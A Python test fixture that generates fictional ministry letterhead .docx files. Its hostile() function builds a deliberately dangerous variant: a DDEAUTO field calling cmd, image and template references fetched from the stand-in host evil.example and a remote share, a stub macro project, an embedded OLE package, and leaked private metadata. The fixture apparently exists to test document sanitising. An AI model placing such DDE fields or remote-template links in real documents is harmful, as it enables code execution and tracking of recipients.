"""Invented letterheads: a ministry with a crest, and files that bring what they should not."""

# ruff: noqa: E501

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_KIND = "application/vnd.openxmlformats-officedocument.wordprocessingml"
NAMES = (
    f'xmlns:w="{W}" xmlns:r="{R}"'
    ' xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"'
    ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    ' xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"'
    ' xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
MINISTRY = "МИНИСТЕРСТВО ВНЕШНИХ СВЯЗЕЙ ЭКЗЕМПЛИИ"
ADDRESS = "ул. Примерная, 1, 100000 Образцовск · +000 00 00 00 · info@example.org"


def crest(size: int = 96) -> bytes:
    """Return a PNG: a golden shield on blue, with a remark on who drew it."""
    rows = []
    for y in range(size):
        row = bytearray(b"\x00")
        for x in range(size):
            dx, dy = abs(x - size / 2) / (size / 2), y / size
            inside = dx < 0.86 * (1 - max(0.0, dy - 0.45) ** 2 * 3.2)
            inner = dx < 0.70 * (1 - max(0.0, dy - 0.45) ** 2 * 3.6) and 0.08 < dy < 0.88
            star = abs(dx) + abs(dy - 0.42) < 0.3
            colour = (b"\xff\xff\xff\x00", b"\xc9\xa2\x27\xff", b"\x1f\x38\x64\xff")[
                inside + (inside and inner)
            ]
            row += b"\xc9\xa2\x27\xff" if star and inside else colour
        rows.append(bytes(row))
    head = struct.pack(">IIBBBBB", size, size, 8, 6, 0, 0, 0)
    chunks = (
        (b"IHDR", head),
        (b"tEXt", b"Author\x00Somebody Private"),
        (b"IDAT", zlib.compress(b"".join(rows))),
        (b"IEND", b""),
    )
    made = b"\x89PNG\r\n\x1a\n"
    for name, data in chunks:
        made += (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )
    return made


def picture(identity: str = "rId1", cm: float = 1.9) -> str:
    emu = int(cm * 360_000)
    return (
        f'<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="{emu}" cy="{emu}"/>'
        '<wp:docPr id="1" name="C:\\Users\\private\\crest.png" descr="Crest"/><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        '<pic:cNvPr id="1" name="crest"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
        f'<a:blip r:embed="{identity}"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm>'
        f'<a:off x="0" y="0"/><a:ext cx="{emu}" cy="{emu}"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom>'
        "</pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
    )


def text(words: str, look: str = "") -> str:
    return f'<w:r><w:rPr>{look}</w:rPr><w:t xml:space="preserve">{words}</w:t></w:r>'


_RULE = '<w:pBdr><w:bottom w:val="single" w:sz="18" w:space="4" w:color="2F5597"/></w:pBdr>'
HEADER = (
    f'<w:p><w:pPr><w:pStyle w:val="a3"/><w:jc w:val="center"/></w:pPr>{picture()}</w:p>'
    f'<w:p><w:pPr><w:pStyle w:val="a3"/>{_RULE}<w:jc w:val="center"/></w:pPr>'
    f'{text(MINISTRY, "<w:b/><w:color w:val=" + chr(34) + "1F3864" + chr(34) + "/>")}</w:p><w:p><w:pPr><w:pStyle w:val="a3"/></w:pPr></w:p>'
)
FOOTER = f'<w:p><w:pPr><w:pStyle w:val="a5"/><w:jc w:val="center"/></w:pPr>{text(ADDRESS, "<w:sz w:val=" + chr(34) + "16" + chr(34) + "/>")}</w:p>'


def _style(
    identity: str, name: str, rest: str = "", kind: str = "paragraph", more: str = ""
) -> str:
    return f'<w:style w:type="{kind}" {more} w:styleId="{identity}"><w:name w:val="{name}"/>{rest}</w:style>'


# ids as a program in Russian gives them; the text is set as offices there like it
STYLES = (
    f'<w:styles xmlns:w="{W}"><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Times New Roman"'
    ' w:hAnsi="Times New Roman" w:cs="Times New Roman" w:eastAsia="Times New Roman"/><w:sz w:val="26"/><w:szCs w:val="26"/>'
    '<w:lang w:val="ru-RU" w:eastAsia="ru-RU" w:bidi="ar-SA"/></w:rPr></w:rPrDefault><w:pPrDefault/></w:docDefaults>'
    + _style("a", "Normal", '<w:rsid w:val="00AB12CD"/><w:pPr><w:spacing w:line="300" w:lineRule="auto"/><w:ind w:firstLine="709"/><w:jc w:val="both"/></w:pPr>', more='w:default="1"')
    + _style("a0", "Default Paragraph Font", kind="character", more='w:default="1"')
    + _style("a1", "Normal Table", "<w:tblPr><w:tblCellMar><w:left w:w=\"108\" w:type=\"dxa\"/><w:right w:w=\"108\" w:type=\"dxa\"/></w:tblCellMar></w:tblPr>", kind="table", more='w:default="1"')
    + _style("1", "Heading 1", '<w:basedOn w:val="a"/><w:next w:val="a"/><w:pPr><w:keepNext/><w:numPr><w:numId w:val="7"/></w:numPr><w:spacing w:before="360" w:after="120"/><w:jc w:val="center"/><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:b/><w:caps/></w:rPr>')
    + _style("2", "HEADING 2", '<w:basedOn w:val="a"/><w:next w:val="a"/><w:pPr><w:keepNext/><w:spacing w:before="240" w:after="120"/><w:ind w:firstLine="0"/><w:outlineLvl w:val="1"/></w:pPr><w:rPr><w:b/></w:rPr>')
    + _style("a3", "header", '<w:basedOn w:val="a"/><w:pPr><w:tabs><w:tab w:val="center" w:pos="4677"/><w:tab w:val="right" w:pos="9355"/></w:tabs><w:spacing w:line="240" w:lineRule="auto"/><w:ind w:firstLine="0"/></w:pPr>')
    + _style("a5", "footer", '<w:basedOn w:val="a"/><w:pPr><w:spacing w:line="240" w:lineRule="auto"/><w:ind w:firstLine="0"/></w:pPr>')
    + "</w:styles>"
)  # fmt: skip
NUMBERING = (
    f'<w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="0"><w:multiLevelType w:val="multilevel"/><w:lvl w:ilvl="0">'
    '<w:start w:val="1"/><w:numFmt w:val="upperRoman"/><w:pStyle w:val="1"/><w:lvlText w:val="%1."/><w:lvlJc w:val="left"/></w:lvl>'
    '</w:abstractNum><w:num w:numId="7"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
)
PAGE = '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1134" w:right="850" w:bottom="1134" w:left="1701" w:header="567" w:footer="567" w:gutter="0"/>'


def section(inside: str = PAGE, title_page: bool = False) -> str:
    return (
        '<w:sectPr w:rsidR="00AB12CD"><w:headerReference w:type="default" r:id="rIdA"/>'
        f'<w:footerReference w:type="default" r:id="rIdB"/>{inside}<w:cols w:space="708"/>'
        f"{'<w:titlePg/>' if title_page else ''}</w:sectPr>"
    )


def ministry(
    body: str = "",
    header: str = HEADER,
    footer: str = FOOTER,
    last: str = "",
    styles: str = STYLES,
    parts: Mapping[str, bytes | str] | None = None,
    types: str = "",
    relations: str = "",
    header_relations: str = "",
    main_type: str = f"{_KIND}.document.main+xml",
) -> bytes:
    """Return a letterhead; what is given takes the place of, or comes beside, the usual."""
    made: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="bin" ContentType="application/octet-stream"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
        + "".join(f'<Override PartName="/word/{name}.xml" ContentType="{_KIND}.{kind}+xml"/>' for name, kind in (("styles", "styles"), ("numbering", "numbering"), ("header1", "header"), ("footer1", "footer")))
        + f"{types}</Types>",
        "_rels/.rels": _relations(f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/>'),
        "word/document.xml": f"<w:document {NAMES}><w:body>{body}<w:p/>{last or section()}</w:body></w:document>",
        "word/_rels/document.xml.rels": _relations(
            "".join(f'<Relationship Id="{one}" Type="{R}/{kind}" Target="{target}"/>' for one, kind, target in (("rIdA", "header", "header1.xml"), ("rIdB", "footer", "footer1.xml"), ("rIdC", "styles", "styles.xml"), ("rIdD", "numbering", "/word/numbering.xml")))
            + relations
        ),
        "word/styles.xml": styles,
        "word/numbering.xml": NUMBERING,
        "word/header1.xml": f"<w:hdr {NAMES}>{header}</w:hdr>",
        "word/_rels/header1.xml.rels": _relations(f'<Relationship Id="rId1" Type="{R}/image" Target="media/image1.png"/>{header_relations}'),
        "word/footer1.xml": f"<w:ftr {NAMES}>{footer}</w:ftr>",
        "word/media/image1.png": crest(),
    }  # fmt: skip
    made |= parts or {}
    return packed(made)


def _relations(inside: str) -> str:
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{inside}</Relationships>'


def packed(parts: Mapping[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            entry = zipfile.ZipInfo(name, (2026, 11, 24, 9, 30, 0))
            file.writestr(entry, content, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def unpacked(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        return {name: file.read(name) for name in file.namelist()}


def hostile() -> bytes:
    """Return a letterhead that brings macros, links, objects, fields, notes and names along."""
    linked = picture("rIdX").replace("r:embed", "r:link")
    header = (
        HEADER + f'<w:p w:rsidR="00112233">{linked}'
        '<w:ins w:id="3" w:author="Ivan Private" w:date="2026-01-01T10:00:00Z"><w:r><w:t>Accepted words</w:t></w:r></w:ins>'
        '<w:del w:id="4" w:author="Ivan Private"><w:r><w:delText>Deleted words</w:delText></w:r></w:del>'
        f"{text('Hidden words', '<w:vanish/>')}"
        '<w:commentRangeStart w:id="0"/><w:bookmarkStart w:id="1" w:name="_GoBack"/><w:bookmarkEnd w:id="1"/>'
        + "".join(
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
            f' {code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>{text(shown)}'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
            for code, shown in (
                ("DDEAUTO c:\\\\x cmd", "dde shown"),
                ("FILENAME \\p", "C:\\Users\\private\\a.docx"),
                ("DATE", "1 May 2026"),
                ("INCLUDEPICTURE http://evil.example/a.png", "far"),
            )
        )
        + '<w:r><w:object><v:shape id="x" alt="C:\\Users\\private\\x.emf"><v:imagedata r:id="rId1" o:title="C:\\private"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" r:id="rIdO"/></w:object></w:r>'
        '<w:hyperlink r:id="rIdF"><w:r><w:t>file link</w:t></w:r></w:hyperlink>'
        '<w:hyperlink r:id="rIdW"><w:r><w:t>web link</w:t></w:r></w:hyperlink>'
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/x" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent><w:r><w:t>Controlled</w:t></w:r></w:sdtContent></w:sdt>'
        "</w:p>"
    )
    outside = ' TargetMode="External"/>'
    return ministry(
        body='<w:p><w:r><w:t>Dear Sir</w:t></w:r><w:ins w:id="9" w:author="Ivan Private"><w:r><w:t>x</w:t></w:r></w:ins></w:p>',
        header=header,
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
        types='<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
        '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
        '<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/>',
        relations=f'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
        f'<Relationship Id="rIdS" Type="{R}/settings" Target="settings.xml"/><Relationship Id="rIdQ" Type="{R}/comments" Target="comments.xml"/>'
        f'<Relationship Id="rIdY" Type="{R}/customXml" Target="../customXml/item1.xml"/>',
        header_relations=f'<Relationship Id="rIdX" Type="{R}/image" Target="http://evil.example/track.png"{outside}'
        f'<Relationship Id="rIdF" Type="{R}/hyperlink" Target="file:///C:/Users/private"{outside}'
        f'<Relationship Id="rIdW" Type="{R}/hyperlink" Target="https://example.org/"{outside}'
        f'<Relationship Id="rIdO" Type="{R}/oleObject" Target="embeddings/oleObject1.bin"/>',
        parts={
            "_rels/.rels": _relations(
                f'<Relationship Id="rId1" Type="{R}/officeDocument" Target="word/document.xml"/>'
                f'<Relationship Id="rId2" Type="{_PACKAGE}/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
            ),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro",
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 object",
            "customXml/item1.xml": "<secret>private</secret>",
            "word/comments.xml": f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="Ivan Private"><w:p/></w:comment></w:comments>',
            "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:trackRevisions/><w:documentProtection w:edit="readOnly" w:enforcement="1"/><w:attachedTemplate r:id="rId1"/><w:evenAndOddHeaders/><w:rsids><w:rsidRoot w:val="00112233"/></w:rsids></w:settings>',
            "word/_rels/settings.xml.rels": _relations(f'<Relationship Id="rId1" Type="{R}/attachedTemplate" Target="file://server/share/evil.dotm"{outside}'),
            "docProps/core.xml": f'<cp:coreProperties xmlns:cp="{_PACKAGE}/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Ivan Private</dc:creator><cp:lastModifiedBy>Ivan Private</cp:lastModifiedBy></cp:coreProperties>',
        },
    )  # fmt: skip
